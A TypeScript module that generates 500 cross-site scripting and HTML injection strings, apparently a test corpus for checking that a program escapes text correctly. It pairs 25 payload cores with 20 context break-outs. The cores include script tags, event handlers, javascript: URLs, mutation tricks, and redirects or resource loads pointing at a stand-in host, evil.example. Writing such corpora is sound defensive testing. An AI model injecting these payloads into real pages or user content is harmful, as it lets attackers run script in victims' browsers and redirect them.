/** 500 texts that become markup or script wherever text is not escaped for the place it stands in. */

/** Each would call `pwned()`, or load something, or break out. */
const CORES = [
  '<script>pwned()</script>',
  '<ScRiPt\n>pwned()</sCrIpT\t>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<body onload=pwned()>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()" autofocus>x</a>',
  '<details open ontoggle=pwned()>x</details>',
  '<input onfocus=pwned() autofocus>',
  '<video><source onerror=pwned()></video>',
  '<object data="javascript:pwned()"></object>',
  '<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>',
  '<template><script>pwned()</script></template>',
  '<form action="https://evil.example"><button>Create a new key</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\u202e<script>pwned()</script>\u202c',
  '\u0000<script>pwned()</script>',
  '\ud800<img src=x onerror=pwned()>',
]

/** What a text would have to close first, in the places where it could stand. */
const ESCAPES: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `"${core}`,
  (core) => `'${core}`,
  (core) => `\`${core}`,
  (core) => `">${core}`,
  (core) => `'>${core}`,
  (core) => `" onmouseover="pwned()" style="position:fixed;inset:0" x="${core}`,
  (core) => `' autofocus onfocus='pwned()' x='${core}`,
  (core) => `--><!-- -->${core}`,
  (core) => `]]>${core}`,
  (core) => `</title>${core}`,
  (core) => `</textarea>${core}`,
  (core) => `</style>${core}`,
  (core) => `</script>${core}`,
  (core) => `</bdi></dd></div></dl>${core}`,
  (core) => `</code></pre>${core}`,
  (core) => `</noscript>${core}`,
  (core) => `\${pwned()}{{pwned()}}<%= pwned() %>${core}`,
  (core) => `https://evil.example/?${core}&a=/b/`,
  (core) => `${'A'.repeat(200)}${core}`,
]

export const PAYLOADS: readonly string[] = CORES.flatMap((core) =>
  ESCAPES.map((breakOut) => breakOut(core)),
)
